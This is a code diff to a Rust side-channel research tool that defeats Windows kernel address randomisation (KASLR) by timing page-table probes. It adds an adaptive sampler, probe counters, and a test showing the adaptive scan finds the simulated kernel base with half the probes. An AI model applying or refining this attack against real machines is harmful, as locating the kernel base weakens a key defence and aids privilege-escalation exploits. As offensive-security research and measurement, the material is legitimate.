@@ -13,6 +13,7 @@ use avx_os::windows::{
     WIN_KERNEL_REGION_START, WIN_KERNEL_SLOTS,
 };
 
+use crate::adaptive::AdaptiveSampler;
 use crate::calibrate::Threshold;
 use crate::primitives::PageTableAttack;
 use crate::prober::Prober;
@@ -30,6 +31,10 @@ pub struct WindowsKaslrScan {
     pub slot: Option<u64>,
     /// Number of candidates classified mapped.
     pub mapped_slots: u64,
+    /// Candidates actually classified before the early exit.
+    pub candidates: u64,
+    /// Raw probes issued (warm-ups included).
+    pub probes: u64,
     /// Probing cycles.
     pub probing_cycles: u64,
     /// Total cycles.
@@ -51,6 +56,20 @@ impl WindowsKaslrAttack {
         }
     }
 
+    /// Routes both region scans through the adaptive sequential engine.
+    #[must_use]
+    pub fn with_adaptive(mut self, sampler: AdaptiveSampler) -> Self {
+        self.attack = self.attack.with_adaptive(sampler);
+        self
+    }
+
+    /// Overrides the fixed probe strategy (default: second-of-two).
+    #[must_use]
+    pub fn with_strategy(mut self, strategy: crate::prober::ProbeStrategy) -> Self {
+        self.attack.strategy = strategy;
+        self
+    }
+
     /// Candidates probed per batch while streaming the region scan.
     pub const SCAN_CHUNK_SLOTS: u64 = 1024;
 
@@ -70,12 +89,18 @@ impl WindowsKaslrAttack {
         let mut run_len = 0u64;
         let mut found: Option<u64> = None;
         let mut slot = 0u64;
+        let mut probes = 0u64;
 
         let region = AddrRange::new(start, WIN_KASLR_ALIGN, WIN_KERNEL_SLOTS);
+        let mut candidates = 0u64;
         'sweep: for chunk in region.chunks(Self::SCAN_CHUNK_SLOTS) {
-            let samples = self.attack.measure_addrs(p, &chunk.to_vec());
+            let sweep = self.attack.sweep(p, &chunk.to_vec());
             p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
-            for mapped in self.attack.classify(&samples) {
+            probes += sweep.probes;
+            // The whole chunk was probed even when the run confirms
+            // mid-chunk, so it counts toward probes-per-address whole.
+            candidates += chunk.count;
+            for mapped in sweep.mapped {
                 if mapped {
                     mapped_slots += 1;
                     if run_start.is_none() {
@@ -98,6 +123,8 @@ impl WindowsKaslrAttack {
             base: found.map(|s| start.wrapping_add(s * WIN_KASLR_ALIGN)),
             slot: found,
             mapped_slots,
+            candidates,
+            probes,
             probing_cycles: p.probing_cycles() - probing_before,
             total_cycles: p.total_cycles() - total_before,
         }
@@ -117,9 +144,9 @@ impl WindowsKaslrAttack {
         let mut run_len = 0u64;
         let mut index = 0u64;
         for chunk in AddrRange::pages(window_start, pages).chunks(Self::SCAN_CHUNK_SLOTS) {
-            let samples = self.attack.measure_addrs(p, &chunk.to_vec());
+            let sweep = self.attack.sweep(p, &chunk.to_vec());
             p.spend(PER_SLOT_OVERHEAD_CYCLES * chunk.count);
-            for mapped in self.attack.classify(&samples) {
+            for mapped in sweep.mapped {
                 if mapped {
                     if run_start.is_none() {
                         run_start = Some(index);
@@ -323,6 +350,36 @@ mod tests {
         let attack = WindowsKaslrAttack::new(th);
         let entry = attack.refine_entry_point(&mut p, truth.kernel_base, |_| {});
         assert_eq!(entry, None, "no victim activity → no hot page");
+    }
+
+    #[test]
+    fn adaptive_region_scan_matches_fixed_with_fewer_probes() {
+        use crate::adaptive::AdaptiveSampler;
+        let config = WindowsConfig {
+            fixed_slot: Some(123_456),
+            ..WindowsConfig::default()
+        };
+        let (mut p, truth) = prober(config.clone(), CpuProfile::alder_lake_i5_12400f(), false);
+        let th = calibrated(&mut p, truth.user_scratch);
+        let fixed = {
+            let mut attack = WindowsKaslrAttack::new(th);
+            attack.attack.strategy = crate::prober::ProbeStrategy::MinOf(8);
+            attack.find_kernel_region(&mut p)
+        };
+        let (mut p, truth) = prober(config, CpuProfile::alder_lake_i5_12400f(), false);
+        let th = calibrated(&mut p, truth.user_scratch);
+        let adaptive = WindowsKaslrAttack::new(th)
+            .with_adaptive(AdaptiveSampler::from_threshold(&th, 1.0))
+            .find_kernel_region(&mut p);
+        assert_eq!(adaptive.base, Some(truth.kernel_base));
+        assert_eq!(adaptive.slot, fixed.slot);
+        assert_eq!(adaptive.candidates, fixed.candidates);
+        assert!(
+            adaptive.probes * 2 <= fixed.probes,
+            "adaptive {} vs fixed {}",
+            adaptive.probes,
+            fixed.probes
+        );
     }
 
     #[test]
